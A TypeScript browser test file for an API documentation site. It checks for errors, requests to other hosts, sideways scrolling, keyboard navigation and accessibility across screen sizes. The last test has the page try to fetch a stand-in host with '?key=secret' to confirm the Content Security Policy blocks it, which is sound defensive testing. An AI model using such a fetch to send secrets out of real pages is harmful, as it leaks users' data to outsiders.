import { readFileSync } from "node:fs"
import { installDebianPackages } from "@outreach/debian-packages/installDebianPackages"
import { type Browser, type BrowserContextOptions, chromium, type Page } from "playwright-core"
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest"
import { keysOf, PAGES, pathOf } from "../../src/docs/layout.ts"
import { startApi } from "../startApi.ts"

const chrome = await installDebianPackages(["chromium"], ["/usr/bin/chromium", "/usr/bin/google-chrome"])

// A name, because nobody knows the port before the API listens: the browser is told where the name leads.
const BASE = "http://api.outreach.test"
const AXE = readFileSync(new URL(import.meta.resolve("axe-core/axe.min.js")), "utf8")
const PATHS = keysOf(PAGES).map(pathOf)
const DESKTOP = { viewport: { width: 1280, height: 900 } }
const PHONE = { viewport: { width: 375, height: 740 }, isMobile: true, hasTouch: true }
const SCREENS: Readonly<Record<string, BrowserContextOptions>> = {
  "a desktop": DESKTOP,
  "a dark desktop": { ...DESKTOP, colorScheme: "dark" },
  "a phone": PHONE,
  "a dark phone": { ...PHONE, colorScheme: "dark" },
}

const overhang = (page: Page) => page.evaluate<number>("document.documentElement.scrollWidth - innerWidth")

/** Returns the rules of accessibility that a page breaks, and where. */
const violations = async (page: Page) => {
  await page.evaluate(AXE)
  return page.evaluate(async () => {
    const { violations } = await (globalThis as never as AxeGlobal).axe.run()
    return violations.map(({ id, nodes }) => [id, nodes.map(({ target }) => target.join(" "))])
  })
}

describe.skipIf("missing" in chrome)("in a browser", () => {
  const api = startApi(undefined, { PUBLIC_BASE_URL: BASE })
  let browser: Browser
  beforeAll(async () => {
    if ("missing" in chrome) return
    const rules = `MAP api.outreach.test:80 127.0.0.1:${new URL(api().url).port}, MAP * ~NOTFOUND`
    const args = ["--no-sandbox", `--host-resolver-rules=${rules}`]
    browser = await chromium.launch({ executablePath: chrome.program, args })
  })
  afterAll(() => browser?.close())

  /** Shows a page until it is complete, and keeps what it asked for and what the console said. */
  const show = async (path: string, screen: BrowserContextOptions = DESKTOP) => {
    const context = await browser.newContext(screen)
    onTestFinished(() => context.close())
    // A test has a limit; a step of it has none of its own.
    context.setDefaultTimeout(0)
    const page = await context.newPage()
    const requests: Array<string> = []
    const complaints: Array<string> = []
    page.on("request", (request) => requests.push(request.url()))
    page.on("console", (message) => complaints.push(`${message.type()}: ${message.text()}`))
    page.on("pageerror", (error) => complaints.push(error.message))
    await page.goto(BASE + path)
    return { page, requests, complaints }
  }

  describe.each(Object.entries(SCREENS))("on %s", (_name, screen) => {
    it.each(PATHS)(
      "shows %s with no error, foreign request or scrolling sideways, and by the rules of accessibility",
      async (path) => {
        const { page, requests, complaints } = await show(path, screen)
        expect(requests.filter((url) => !url.startsWith(`${BASE}/`))).toEqual([])
        expect(complaints).toEqual([])

        // What is folded is looked at as well.
        await page.locator("details").evaluateAll((all) => {
          for (const folded of all) {
            // Of those with one name, one alone is open.
            folded.removeAttribute("name")
            folded.setAttribute("open", "")
          }
        })
        expect(await overhang(page)).toBeLessThanOrEqual(0)
        expect(await violations(page)).toEqual([])
      },
    )
  })

  it.each(PATHS)(
    "the Tab key reaches everything on %s that can be followed, folded or scrolled, in its order and visibly",
    async (path) => {
      const { page } = await show(path)
      const stops = await page.evaluate<number>(
        `(stops = [...document.querySelectorAll("a[href], summary, [tabindex='0']")].filter((one) => one.checkVisibility())).length`,
      )
      const reached: Array<unknown> = []
      for (let i = 0; i < stops; i++) {
        await page.keyboard.press("Tab")
        reached.push(
          await page.evaluate<string>(
            "stops.indexOf(document.activeElement) + getComputedStyle(document.activeElement).outline.replace(/.*(?= solid)/, '')",
          ),
        )
      }
      expect(reached).toEqual(Array.from({ length: stops }, (_, i) => `${i} solid 2px`))
    },
  )

  it("the first Tab offers to skip to the content, and the next one is in it", async () => {
    const { page } = await show("/docs/webhooks")
    await page.keyboard.press("Tab")
    await page.keyboard.press("Enter")
    await page.keyboard.press("Tab")
    expect(await page.evaluate("document.activeElement.closest('main') !== null")).toBe(true)
  })

  it("the guide to webhooks shows the check of a signature in one language at a time, which keys choose", async () => {
    const { page, complaints } = await show("/docs/webhooks", { viewport: { width: 375, height: 740 } })
    const names = await page.locator(".languages summary").allTextContents()
    expect(names).toEqual(["TypeScript", "Python", "PHP", "Ruby", "Go", "Java", "C#"])
    for (const name of [...names.slice(1), names[0]!]) {
      await page.locator(".languages summary", { hasText: name }).press("Enter")
      expect(await page.locator(".languages details[open] summary").allTextContents()).toEqual([name])
      expect(await overhang(page)).toBeLessThanOrEqual(0)
      expect(await violations(page)).toEqual([])
    }
    expect(complaints).toEqual([])
  })

  it("a link from an error to its operation arrives below the header", async () => {
    const { page } = await show("/docs/errors")
    await page.locator("#TOKEN_NOT_FOUND").getByRole("link", { name: "resolve one token" }).click()
    await page.waitForURL(`${BASE}/docs/reference#getToken`)
    const covered = "document.querySelector('header').getBoundingClientRect().bottom"
    expect(
      await page.evaluate<number>(`document.querySelector('#getToken h3').getBoundingClientRect().top - ${covered}`),
    ).toBeGreaterThanOrEqual(0)
  })

  it("the example of a response unfolds by a key", async () => {
    const { page } = await show("/docs/reference#getToken")
    const example = page.getByLabel("Example: Resolve one token")
    expect(await example.isVisible()).toBe(false)
    await page.locator("#getToken summary").press("Enter")
    await example.waitFor()
  })

  it("the policy lets nothing be sent", async () => {
    const { page, complaints } = await show("/docs")
    const sent = await page.evaluate(() =>
      fetch("https://elsewhere.test/?key=secret").then(
        () => true,
        () => false,
      ),
    )
    expect(sent).toBe(false)
    expect(complaints.join()).toContain("Content Security Policy")
  })
})

interface AxeGlobal {
  readonly axe: {
    readonly run: () => Promise<{
      readonly violations: ReadonlyArray<{
        readonly id: string
        readonly nodes: ReadonlyArray<{ readonly target: ReadonlyArray<string> }>
      }>
    }>
  }
}
